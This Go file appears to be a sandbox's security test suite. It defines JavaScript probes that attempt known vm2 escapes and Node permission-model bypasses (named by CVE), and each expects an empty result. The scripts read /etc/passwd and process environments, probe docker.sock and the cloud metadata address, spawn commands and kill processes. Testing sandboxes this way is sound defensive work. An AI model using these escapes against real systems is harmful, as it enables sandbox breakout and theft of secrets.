package attack

// Classes that are lent to scripts, such as Buffer, are of the worker's realm, and console formats there. So whoever
// wants to gets its Function and, by that, its process: contexts keep calls tidy, not safe. What is left there is
// Node's permission model, and behind it the container.

// harm is put in front of scripts that want more than that: it tries what a process may do that reads files, starts
// others or talks to them, and tells what came of it.
const harm = `
const harm = async (F) => {
  const process = F('return process')();
  const load = process.getBuiltinModule;
  const fs = load('fs'), got = [];
  const attempt = async (name, f) => { try { const it = await f(); if (it !== undefined) got.push(name + ' ' + String(it).slice(0, 60)) } catch {} };
  for (const file of ['/etc/passwd', '/proc/self/environ', '/proc/self/mem', '/proc/self/maps', '/proc/1/environ', '/proc/1/cmdline',
'/proc/meminfo', '/var/run/docker.sock', '/opt/../etc/hostname']) {
    await attempt(file, () => fs.readFileSync(file));
    await attempt(file + ' as bytes', () => fs.openSync(Buffer.from(file)));
  }
  for (const folder of ['/', '/proc', '/tmp', '/sys', '/dev', '/proc/self/fd']) await attempt(folder, () => fs.readdirSync(folder));
  for (const file of ['/tmp/MARKER', '/dev/shm/MARKER', '/opt/jsd/worker/worker.js', '/proc/self/comm',
'/MARKER']) await attempt('write ' + file, () => { fs.writeFileSync(file, 'x'); return 'written' });
  await attempt('link', () => { fs.symlinkSync('/', '/tmp/MARKER-link'); return 'linked' });
  await attempt('spawn', () => load('child_process').execFileSync('/bin/true'));
  await attempt('fork', () => load('child_process').fork('/opt/jsd/agent/agent.js').pid);
  await attempt('thread', () => new (load('worker_threads').Worker)('1', { eval: true }).threadId);
  await attempt('inspector', () => load('inspector').open(0));
  await attempt('add-on', () => { try { process.dlopen({ exports: {} }, '/lib64/ld-linux-x86-64.so.2') } catch (e) { if (e.code !== 'ERR_DLOPEN_FAILED') throw e } return 'loaded' });
  await attempt('wasi', () => new (load('wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }));
  await attempt('require', () => load('module').createRequire('/')('/etc/passwd'));
  await attempt('database', () => new (load('node:sqlite').DatabaseSync)('/tmp/MARKER-db'));
  for (const name of ['kill', '_kill', 'abort', '_debugProcess']) await attempt(name, () => process[name](process.ppid, 9));
  await attempt('debug', () => process._debugEnd?.());
  const connected = (options) => new Promise((done, failed) => load('net').connect(options).on('connect', () => done('connected')).on('error', failed));
  for (const options of [{ host: '127.0.0.1', port: $FORBIDDEN }, { host: '169.254.169.254', port: 80 },
{ path: '/var/run/docker.sock' }]) await attempt('connect', () => connected(options));
  await attempt('listen', () => new Promise((done, failed) => load('net').createServer().listen(0, () => done('listens')).on('error', failed)));
  await attempt('udp', () => new Promise((done, failed) => load('dgram').createSocket('udp4').on('error', failed).send('x', 53, '127.0.0.1', (e) => (e ? failed(e) : done('sent')))));
  await attempt('environment', () => (Object.keys(process.env).length === 0 ? undefined : JSON.stringify(process.env)));
  return got;
};
`

// workers are scripts that have the worker's realm by a class that is lent.
func reaching(body string) script {
	return script{"code": "const F = Buffer.constructor, worker = F('return process')(), load = worker.getBuiltinModule;\n(async () => {" + body + "})()"}
}

func workerTheme() theme {
	t := theme{name: "worker", attacks: []attack{
		{
			name: "process and all it has", tries: "harm by the process behind Buffer's constructor",
			script: script{"code": harm + `harm(Buffer.constructor)`}, want: `[]`,
		},
		{
			name: "inspect", tries: "harm by the inspect function that custom inspection is handed",
			script: script{"code": harm + `let F; console.log({ [Symbol.for('nodejs.util.inspect.custom')](d, o, inspect) { F = inspect.constructor } }); harm(F)`}, want: `[]`,
		},
		{
			name: "stack overflow", tries: "harm by a RangeError that is thrown in the agent's functions, where the stack ends (CVE-2019-10761 of vm2)",
			script: script{"code": harm + `
let F;
const down = () => { try { down() } catch (e) { try { console.log('x') } catch (e) { const its = e.constructor.constructor;
if (its('return typeof process')() !== 'undefined') F = its } throw e } };
for (let i = 0; i < 50 && F === undefined; i++) { try { down() } catch {} }
F === undefined ? [] : harm(F)`}, want: `[]`,
		},
		{
			name: "array of a trap", tries: "harm by the arguments that a Proxy's apply gets when console formats an error (CVE-2023-32314 of vm2)",
			script: script{"code": harm + `
let F; const e = new Error('x');
e.name = { toString: new Proxy(() => '', { apply(target, self, args) { F = args.constructor.constructor; return 'x' } }) };
try { console.log(e) } catch {}
harm(F)`}, want: `[]`,
		},
	}}
	t.attacks = append(t.attacks, permissionAttacks()...)
	t.attacks = append(t.attacks, frameAttacks()...)
	return t
}

// permissionAttacks are ways around Node's permission model, by the names under which they were published.
func permissionAttacks() []attack {
	refused := func(name, tries, body string) attack {
		return attack{name: name, tries: tries, script: reaching(`const got = []; const attempt = async (f) => { try { const it = await f();
if (it !== undefined) got.push(String(it).slice(0, 80)) } catch {} };` + body + `; return got`), want: `[]`}
	}
	return []attack{
		refused("CVE-2023-30581 Node", "require by the prototype of process.mainModule",
			`await attempt(() => worker.mainModule.__proto__.require('fs').readFileSync('/etc/passwd'));
await attempt(() => worker.mainModule.require('child_process').execSync('id'))`),
		refused("CVE-2023-32002 Node", "Module._load, and loaders that are given sources",
			`const M = load('module'); await attempt(() => M._load('/etc/passwd')); await attempt(() => M._load('child_process').execSync('id'));
await attempt(() => new M('/tmp/x')._compile('return process.getBuiltinModule("fs").readFileSync("/etc/passwd")', '/x'));
await attempt(() => M._extensions['.node']({ exports: {} }, '/lib/x.node'))`),
		refused("CVE-2023-32559 Node", "process.binding('spawn_sync'), and other bindings",
			`await attempt(() => { const { error, pid } = worker.binding('spawn_sync').spawn({ file: '/bin/true', args: ['true'], stdio: [] });
return error === undefined && pid ? pid : undefined });
			 for (const name of ['fs', 'process_wrap', 'pipe_wrap', 'tcp_wrap', 'spawn_sync', 'contextify', 'inspector',
'worker']) await attempt(() => { const it = worker.binding(name); if (name === 'fs') return it.readFileUtf8?.('/etc/passwd', 0);
if (name === 'process_wrap') { const p = new it.Process(); const e = p.spawn({ file: '/bin/true', args: ['true'] });
return e === 0 ? 'spawned' : undefined } })`),
		refused("CVE-2023-32558 Node", "process.binding('fs') with paths that climb",
			`for (const path of ['/opt/jsd/../../etc/passwd', '/opt/jsd/./../../etc/passwd', '/opt/jsd//..//../etc/passwd',
'/opt/jsd/\u0000/../../etc/passwd', '/proc/self/oom_score_adj/../environ', '/proc/self/root/etc/passwd',
'/opt/jsd/agent/agent.js/../../../../etc/passwd']) for (const each of [path, Buffer.from(path), new TextEncoder().encode(path),
new URL('file://' + path.replaceAll('\u0000', ''))]) { await attempt(() => load('fs').readFileSync(each));
await attempt(() => load('fs').openSync(each)) }`),
		refused("CVE-2023-39332 Node", "paths as bytes, which are checked as another text than is opened",
			`class Path extends Uint8Array { toString() { return '/opt/jsd/agent/agent.js' } } const bytes = (s) => new TextEncoder().encode(s);
await attempt(() => load('fs').readFileSync(Path.from(bytes('/etc/passwd')))); const own = Buffer.prototype.toString;
Buffer.prototype.toString = () => '/opt/jsd/agent/agent.js'; await attempt(() => load('fs').readFileSync(Buffer.from('/etc/passwd')));
Buffer.prototype.toString = own`),
		refused("CVE-2024-21896 Node", "path.resolve's helpers replaced: utf8Write, toNamespacedPath, resolve",
			`const path = load('path'); const own = [Buffer.prototype.utf8Write, path.resolve, path.toNamespacedPath, path.normalize];
Buffer.prototype.utf8Write = function (s, ...rest) { return own[0].call(this, '/opt/jsd/agent/agent.js', ...rest) };
path.resolve = path.toNamespacedPath = path.normalize = () => '/opt/jsd/agent/agent.js';
			 await attempt(() => load('fs').readFileSync(Buffer.from('/opt/jsd/../../etc/passwd')));
await attempt(() => load('fs').readFileSync('/opt/jsd/../../etc/passwd'));
[Buffer.prototype.utf8Write, path.resolve, path.toNamespacedPath, path.normalize] = own`),
		refused("CVE-2023-30583 Node", "functions that forget to ask: openAsBlob, watchFile, statfs, opendir, glob, cp, mkdtemp",
			`const fs = load('fs'); const p = '/etc/passwd'; await attempt(async () => (await fs.openAsBlob(p)).text());
await attempt(() => fs.opendirSync('/etc').readSync().name); await attempt(() => fs.globSync('/etc/*')[0]);
await attempt(() => { fs.cpSync(p, '/tmp/MARKER'); return 'copied' }); await attempt(() => fs.mkdtempSync('/tmp/MARKER'));
await attempt(() => { fs.watchFile(p, () => {}); fs.unwatchFile(p) }); await attempt(() => fs.statSync(p).size);
await attempt(() => fs.realpathSync.native('/etc/../etc/passwd')); await attempt(() => fs.createReadStream(p).read() ?? undefined);
await attempt(async () => (await fs.promises.open(p)).fd);`),
		refused("CVE-2024-22018 and CVE-2024-36137 Node", "lstat, and modes and times by a descriptor that is open",
			`const fs = load('fs'); await attempt(() => fs.lstatSync('/etc/passwd').size); await attempt(() => { const fd = fs.openSync('/opt/jsd/agent/agent.js');
fs.fchmodSync(fd, 0o777); return 'mode' }); await attempt(() => { const fd = fs.openSync('/opt/jsd/agent/agent.js'); fs.futimesSync(fd, 0, 0);
return 'times' }); await attempt(() => { const fd = fs.openSync('/opt/jsd/agent/agent.js'); fs.fchownSync(fd, 0, 0); return 'owner' })`),
		refused("CVE-2025-55130 Node", "symbolic links that are allowed to be made, and lead out",
			`const fs = load('fs');
for (const [to, at] of [['/etc/passwd', '/tmp/MARKER'], ['../../etc/passwd', '/opt/jsd/MARKER'], ['/',
'/proc/self/oom_score_adj/MARKER']]) await attempt(() => { fs.symlinkSync(to, at); return fs.readFileSync(at) });
await attempt(() => { fs.linkSync('/etc/passwd', '/tmp/MARKER'); return 'linked' })`),
		refused("CVE-2023-30586 Node", "an OpenSSL engine as a library to load, and keys from files",
			`const crypto = load('crypto'); await attempt(() => { crypto.setEngine?.('/usr/lib/x86_64-linux-gnu/libc.so.6'); return undefined });
await attempt(() => load('tls').createSecureContext({ clientCertEngine: '/lib/x.so' }) && 'engine');
await attempt(() => load('tls').createSecureContext({ privateKeyEngine: '/x', privateKeyIdentifier: 'x' }) && 'key')`),
		refused("CVE-2025-23083 Node", "the class of internal workers, which diagnostics channels hand out",
			`const { channel } = load('diagnostics_channel'); let leaked; const take = (it) => { leaked = it }; channel('worker_threads').subscribe(take);
await attempt(() => new (load('worker_threads').Worker)('1', { eval: true })); channel('worker_threads').unsubscribe(take);
await attempt(() => leaked && new leaked.worker.constructor('1', { eval: true }).threadId)`),
		refused("permission.drop and flags", "settings of the process: execArgv, NODE_OPTIONS, setuid, V8 flags that allow natives",
			`await attempt(() => worker.permission.has('fs.read', '/etc') || undefined); await attempt(() => worker.permission.has('child') || undefined);
await attempt(() => { worker.execArgv.length = 0; worker.env.NODE_OPTIONS = '--allow-fs-read=*';
return worker.permission.has('fs.read') || undefined }); await attempt(() => { worker.setuid(0); return 'root' });
await attempt(() => { load('v8').setFlagsFromString('--allow-natives-syntax'); return undefined });
await attempt(() => load('v8').writeHeapSnapshot('/tmp/MARKER')); await attempt(() => worker.report.writeReport('/tmp/MARKER'));
await attempt(() => load('fs').readFileSync('/etc/passwd'))`),
	}
}
